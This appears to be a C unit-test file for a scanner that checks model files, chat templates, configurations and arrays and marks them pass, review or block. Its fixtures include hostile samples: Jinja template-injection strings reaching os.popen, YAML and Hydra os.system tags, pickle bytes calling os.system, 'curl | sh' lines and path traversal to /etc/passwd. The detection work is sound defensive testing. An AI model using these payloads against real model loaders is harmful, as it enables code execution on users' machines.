/* SPDX-License-Identifier: Apache-2.0 */
/* formats_test.c — weights, arrays, templates, configurations, text: what is refused, what is quiet. */
#include "review_test.h"

static void st(struct buf *b, const char *header, const char *data, size_t n) {
    buf_reset(b);
    buf_u64le(b, strlen(header));
    buf_cstr(b, header);
    buf_add(b, data, n);
}

static void safetensors(void **state) {
    (void)state;
    static const struct {
        const char *header;
        size_t data;
        enum verdict verdict;
        const char *rule;
    } v[] = {
        {"{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}", 8, VERDICT_PASS, ""},
        {"{\"__metadata__\":{\"format\":\"pt\"},\"a\":{\"dtype\":\"U8\",\"shape\":[],\"data_offsets\":[0,1]}}", 1,
         VERDICT_PASS, ""},
        {"{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}", 9, VERDICT_BLOCK, "safetensors.trailing"},
        {"{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}", 7, VERDICT_BLOCK, "safetensors.tiling"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[0,4]},\"b\":{\"dtype\":\"U8\",\"shape\":[4],\"data_"
         "offsets\":[2,6]}}",
         6, VERDICT_BLOCK, "safetensors.tiling"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[2,6]}}", 6, VERDICT_BLOCK, "safetensors.tiling"},
        {"{\"a\":{\"dtype\":\"F32\",\"shape\":[3],\"data_offsets\":[0,8]}}", 8, VERDICT_REVIEW, "safetensors.dtype"},
        {"{\"a\":{\"dtype\":\"F32\",\"shape\":[4294967296,4294967296,4],\"data_offsets\":[0,8]}}", 8, VERDICT_REVIEW,
         "safetensors.dtype"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]},\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_"
         "offsets\":[0,1]}}",
         1, VERDICT_BLOCK, ""},
        {"{\"../../x\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}}", 1, VERDICT_BLOCK, "safetensors.name"},
        {"{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[1,0]}}", 1, VERDICT_BLOCK, "safetensors.tiling"},
        {"{\"a\":", 1, VERDICT_BLOCK, "safetensors.header"},
    };
    struct buf b;
    buf_init(&b, 64 * KiB);
    for (size_t i = 0; i < ARRAY_LEN(v); i++) {
        st(&b, v[i].header, "\1\2\3\4\5\6\7\10\11\12", v[i].data);
        const struct sample s = {v[i].header, b.p, b.n, "model.safetensors", v[i].verdict, v[i].rule};
        samples_run(&s, 1);
    }
    buf_release(&b);
}

/* Regression: any text with a brace as its ninth character was blocked as broken safetensors. */
static void a_brace_after_eight_characters_is_text(void **state) {
    (void)state;
    static const struct sample v[] = {
        {"style sheet", BYTES("textarea{\n  color: red;\n}\n"), "a.css", VERDICT_PASS, ""},
        {"class", BYTES(".classab{ color: red }\n"), "b.css", VERDICT_PASS, ""},
        {"lines of JSON", BYTES("{\"a\":1}\n{\"a\":2}\n"), "d.jsonl", VERDICT_PASS, ""},
        {"Markdown", BYTES("# Title\n{\"x\": 1}\n"), "i.md", VERDICT_PASS, ""},
        {"no name at all", BYTES("abcdefgh{\"x\": 1}\n"), "j", VERDICT_PASS, ""},
        {"called safetensors", BYTES("abcdefgh{\"x\": 1}\n"), "j.safetensors", VERDICT_BLOCK, "safetensors.header"},
        {"a length that is no text", BYTES("\xff\xff\xff\xff\xff\xff\xff\x7f{\"x\": 1}\n"), "j.bin", VERDICT_BLOCK,
         "safetensors.header"},
    };
    samples_run(v, ARRAY_LEN(v));
}

static void gg_str(struct buf *b, const char *z) {
    buf_u64le(b, strlen(z));
    buf_cstr(b, z);
}
static void gg(struct buf *b, uint64_t tensors, uint64_t kv) {
    buf_reset(b);
    buf_cstr(b, "GGUF");
    buf_u32le(b, 3);
    buf_u64le(b, tensors);
    buf_u64le(b, kv);
}
static void gg_kv(struct buf *b, const char *key, const char *value) {
    gg_str(b, key);
    buf_u32le(b, 8);
    gg_str(b, value);
}
static void gg_tensor(struct buf *b, uint64_t d0, uint64_t d1, uint32_t type, uint64_t off, size_t data) {
    gg_str(b, "t");
    buf_u32le(b, 2);
    buf_u64le(b, d0);
    buf_u64le(b, d1);
    buf_u32le(b, type);
    buf_u64le(b, off);
    while (b->n % 32) buf_char(b, 0);
    for (size_t i = 0; i < data; i++) buf_char(b, (char)i);
}
static void expect(const struct buf *b, const char *what, const char *name, enum verdict verdict, const char *rule) {
    const struct sample s = {what, b->p, b->n, name, verdict, rule};
    samples_run(&s, 1);
}

static void gguf(void **state) {
    (void)state;
    struct buf b;
    buf_init(&b, 64 * KiB);
    gg(&b, 1, 1);
    gg_kv(&b, "general.architecture", "llama");
    gg_tensor(&b, 8, 2, 0, 0, 64);
    expect(&b, "whole", "m.gguf", VERDICT_PASS, "");
    b.n -= 8;
    expect(&b, "cut off", "m.gguf", VERDICT_REVIEW, "gguf.truncated");
    gg(&b, 1, 0);
    gg_tensor(&b, 8, 2, 0, 0, 164);
    expect(&b, "more than declared", "m.gguf", VERDICT_REVIEW, "gguf.trailing");
    gg(&b, 1, 0);
    gg_tensor(&b, (uint64_t)1 << 62, 16, 0, 0, 64);
    expect(&b, "product wraps 64 bits", "m.gguf", VERDICT_BLOCK, "gguf.header");
    gg(&b, 1, 0);
    gg_tensor(&b, 8, 2, 0, 5, 64);
    expect(&b, "unaligned offset", "m.gguf", VERDICT_BLOCK, "gguf.header");
    gg(&b, 0, (uint64_t)1 << 60);
    expect(&b, "count bomb", "m.gguf", VERDICT_BLOCK, "gguf.header");
    gg(&b, 0, 1);
    buf_u64le(&b, UINT64_MAX);
    buf_cstr(&b, "abcdefgh");
    expect(&b, "string of 2^64-1", "m.gguf", VERDICT_BLOCK, "gguf.header");
    gg(&b, 0, 2);
    gg_kv(&b, "a", "1");
    gg_kv(&b, "a", "2");
    expect(&b, "key twice", "m.gguf", VERDICT_REVIEW, "gguf.duplicate");
    gg(&b, 0, 1);
    gg_kv(&b, "tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}");
    expect(&b, "template that reaches Python", "m.gguf", VERDICT_BLOCK, "template.exec");
    buf_release(&b);
}

static void templates(void **state) {
    (void)state;
    static const struct sample v[] = {
        {"usual",
         BYTES("{% for m in messages %}{% if m['role'] == 'user' %}<|user|>{{ m.content | trim }}{% endif %}{% endfor "
               "%}"),
         "chat_template.jinja", VERDICT_PASS, ""},
        {"escapes", BYTES("{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}"), "t.jinja", VERDICT_BLOCK, "template.exec"},
        {"joined", BYTES("{{ x['__cla' ~ 'ss__'] }}"), "t.jinja", VERDICT_BLOCK, "template.exec"},
        {"closing mark inside a string", BYTES("{{ '}}' ~ x.__class__ }}"), "t.jinja", VERDICT_BLOCK, "template.exec"},
        {"minus signs", BYTES("{%- set a = x.__globals__ -%}"), "t.jinja", VERDICT_BLOCK, "template.exec"},
        {"behind a comment", BYTES("{# {{ #}{{ x.__mro__ }}"), "t.jinja", VERDICT_BLOCK, "template.exec"},
        {"only in a comment", BYTES("{# x.__mro__ #}{% if a %}b{% endif %}"), "t.jinja", VERDICT_PASS, ""},
        {"only in text", BYTES("x.__mro__ {% if a %}b{% endif %}"), "t.jinja", VERDICT_PASS, ""},
        {"depends on what people say", BYTES("{% if 'password' in m.content %}tell{% endif %}"), "t.jinja",
         VERDICT_REVIEW, "template.content"},
        {"includes", BYTES("{% include 'other' %}{% if a %}{% endif %}"), "t.jinja", VERDICT_REVIEW,
         "template.include"},
        {"unclosed", BYTES("{{ x.__class__"), "t.jinja", VERDICT_BLOCK, "template.exec"},
    };
    samples_run(v, ARRAY_LEN(v));
}

static void configurations(void **state) {
    (void)state;
    static const struct sample v[] = {
        {"plain", BYTES("{\"model_type\":\"llama\"}"), "config.json", VERDICT_PASS, ""},
        {"auto_map", BYTES("{\"auto_map\":{\"AutoModel\":\"modeling.X\"}}"), "anything", VERDICT_REVIEW,
         "config.auto_map"},
        {"auto_map elsewhere", BYTES("{\"auto_map\":{\"AutoModel\":\"other/repo--modeling.X\"}}"), "config.json",
         VERDICT_REVIEW, "config.remote_code"},
        {"template list", BYTES("{\"chat_template\":[{\"name\":\"a\",\"template\":\"{{ x.__class__ }}\"}]}"), "t.json",
         VERDICT_BLOCK, "template.exec"},
        {"escaped key", BYTES("{\"chat\\u005ftemplate\":\"{{ x.__class__ }}\"}"), "t.json", VERDICT_BLOCK,
         "template.exec"},
        {"second of two equal keys", BYTES("{\"chat_template\":\"x\",\"chat_template\":\"{{ x.__class__ }}\"}"),
         "t.json", VERDICT_BLOCK, "template.exec"},
        {"keras lambda", BYTES("{\"class_name\":\"Lambda\",\"config\":{\"function\":\"x\"}}"), "config.json",
         VERDICT_BLOCK, "keras.exec"},
        {"keras module", BYTES("{\"module\":\"subprocess\",\"class_name\":\"Popen\",\"config\":{}}"), "config.json",
         VERDICT_BLOCK, "keras.exec"},
        {"keras own", BYTES("{\"module\":\"keras.layers\",\"class_name\":\"Dense\",\"config\":{}}"), "config.json",
         VERDICT_PASS, ""},
        {"kernels hub", BYTES("{\"_attn_implementation_internal\":\"evil/kernel\"}"), "config.json", VERDICT_REVIEW,
         "config.remote_code"},
        {"hydra target", BYTES("model:\n  _target_: os.system\n"), "conf.yaml", VERDICT_BLOCK, "config.target.exec"},
        {"python yaml", BYTES("a: !!python/object/apply:os.system [id]\n"), "conf.yaml", VERDICT_BLOCK, "yaml.python"},
        {"shard outside", BYTES("{\"weight_map\":{\"a\":\"../../etc/passwd\"}}"), "model.safetensors.index.json",
         VERDICT_BLOCK, "archive.name"},
        {"deep json", BYTES("[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1"),
         "a.json", VERDICT_NOTICE, "json.invalid"},
        {"notebook magic", BYTES("{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!curl x\"]}]}"),
         "a.ipynb", VERDICT_REVIEW, "code.notebook"},
    };
    samples_run(v, ARRAY_LEN(v));
}

static void texts_and_programs(void **state) {
    (void)state;
    static const struct sample v[] = {
        {"empty", "", 0, "x", VERDICT_PASS, ""},
        {"markdown", BYTES("# Title\n\nimport os is a line of prose\n"), "README.md", VERDICT_PASS, ""},
        {"python", BYTES("import os\nfrom x import y\nprint(1)\n"), "a.py", VERDICT_NOTICE, "code.python"},
        {"python that starts programs", BYTES("import os\nimport sys\nos.system('x')\n"), "nameless", VERDICT_REVIEW,
         "code.signal"},
        {"python in characters that do not stand here", BYTES("#!/usr/bin/python3\n# -*- coding: utf-7 -*-\n+AG8-s\n"),
         "a.py", VERDICT_REVIEW, "code.signal"},
        {"python that says how it is written", BYTES("# -*- coding: utf-8 -*-\nx = 1\n"), "a.py", VERDICT_NOTICE,
         "code.python"},
        {"download and run", BYTES("#!/bin/sh\ncurl http://x/y | sh\n"), "nameless", VERDICT_BLOCK, "code.shell.pipe"},
        {"the same from Python", BYTES("import os\nos.system('curl http://x/y | sh')\n"), "setup.py", VERDICT_BLOCK,
         "code.shell.pipe"},
        {"a help text", BYTES("HELP = 'Install: curl http://x/y | sh'\n"), "cli.py", VERDICT_REVIEW, "code.signal"},
        {"tag in YAML", BYTES("a: !!python/object:os.x {}\n"), "a.yaml", VERDICT_BLOCK, "yaml.python"},
        {"tag in any text", BYTES("a: !!python/object:os.x {}\n"), "a.conf", VERDICT_BLOCK, "yaml.python"},
        {"tag that a card names", BYTES("Do not use !!python/object in configurations.\n"), "README.md", VERDICT_PASS,
         ""},
        {"token", BYTES("key = hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567\n"), "n.txt", VERDICT_NOTICE, "secret.token"},
        {"no token", BYTES("key = hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"), "n.txt", VERDICT_PASS, ""},
        {"elf",
         BYTES("\x7f"
               "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0"),
         "weights.bin", VERDICT_BLOCK, "executable"},
        {"two chance bytes are no program",
         BYTES("MZ and some text behind it, long enough for a header of sixty-four bytes."), "n.txt", VERDICT_PASS, ""},
        /* Regression: menus of an editor in ISO 8859 were searched for pickle opcodes: "finish", "endif" called
           sh.endif. */
        {"text in an older encoding",
         BYTES("\" Translated by J\xe9r\xf4me, who did the menus long ago.\nif exists(\"x\")\n  finish\nendif\n"),
         "menu.vim", VERDICT_PASS, ""},
        {"Chinese in GBK",
         BYTES("\xc4\xe3\xba\xc3\xa3\xac\xca\xc0\xbd\xe7\xa1\xa3\xd5\xe2\xca\xc7\xd2\xbb\xb8\xf6\xcb\xb5\xc3\xf7\n"
               "\xc4\xe3\xba\xc3\xa3\xac\xca\xc0\xbd\xe7\xa1\xa3\xd5\xe2\xca\xc7\xd2\xbb\xb8\xf6\xcb\xb5\xc3\xf7\n"
               "\xc4\xe3\xba\xc3\xa3\xac\xca\xc0\xbd\xe7\xa1\xa3\xd5\xe2\xca\xc7\xd2\xbb\xb8\xf6\xcb\xb5\xc3\xf7\n"),
         "readme.txt", VERDICT_PASS, ""},
        {"noise", BYTES("\x01\x99\xfe\0\0\7"), "a.bin", VERDICT_REVIEW, "unknown.format"},
        {"noise with a call in it",
         BYTES("\x01\x99\xfe\0\0\7"
               "cos\nsystem\n(S'id'\ntR."),
         "a.bin", VERDICT_BLOCK, "pickle.carved"},
        {"pointer", BYTES("version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n"), "m.bin",
         VERDICT_REVIEW, "pointer"},
        {"7z", BYTES("7z\xbc\xaf\x27\x1c\0\4"), "a.7z", VERDICT_REVIEW, "archive.unexamined"},
        {"xml with a library", BYTES("<net><layer library=\"../evil.so\"/></net>"), "n.xml", VERDICT_BLOCK,
         "xml.native"},
        {"svg", BYTES("<svg><script>x()</script></svg>"), "a.svg", VERDICT_REVIEW, "svg.script"},
    };
    samples_run(v, ARRAY_LEN(v));
}

static void arrays(void **state) {
    (void)state;
    struct buf b;
    buf_init(&b, 64 * KiB);
    static const struct {
        const char *header;
        const char *data;
        size_t n;
        enum verdict verdict;
        const char *rule;
    } v[] = {
        {"{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", "abcdefgh", 8, VERDICT_PASS, ""},
        {"{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", "abcdefg", 7, VERDICT_REVIEW, "numpy.size"},
        {"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", BYTES("\x80\x03]Na."), VERDICT_NOTICE,
         "numpy.object"},
        {"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
         BYTES("\x80\x03"
               "cos\nsystem\nX\2\0\0\0id\x85R."),
         VERDICT_BLOCK, "pickle.call.evidence"},
        {"__import__('os').system('id')", "", 0, VERDICT_REVIEW, "numpy.header"},
        {"{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999, 99999999999, 99999999999), }", "abcdefgh", 8,
         VERDICT_REVIEW, "numpy.header"},
    };
    for (size_t i = 0; i < ARRAY_LEN(v); i++) {
        buf_reset(&b);
        buf_add(&b, "\x93NUMPY\1\0", 8);
        buf_u16le(&b, (uint16_t)strlen(v[i].header));
        buf_cstr(&b, v[i].header);
        buf_add(&b, v[i].data, v[i].n);
        const struct sample s = {v[i].header, b.p, b.n, "a.npy", v[i].verdict, v[i].rule};
        samples_run(&s, 1);
    }
    buf_release(&b);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_brace_after_eight_characters_is_text),
        cmocka_unit_test(safetensors),
        cmocka_unit_test(gguf),
        cmocka_unit_test(templates),
        cmocka_unit_test(configurations),
        cmocka_unit_test(texts_and_programs),
        cmocka_unit_test(arrays),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
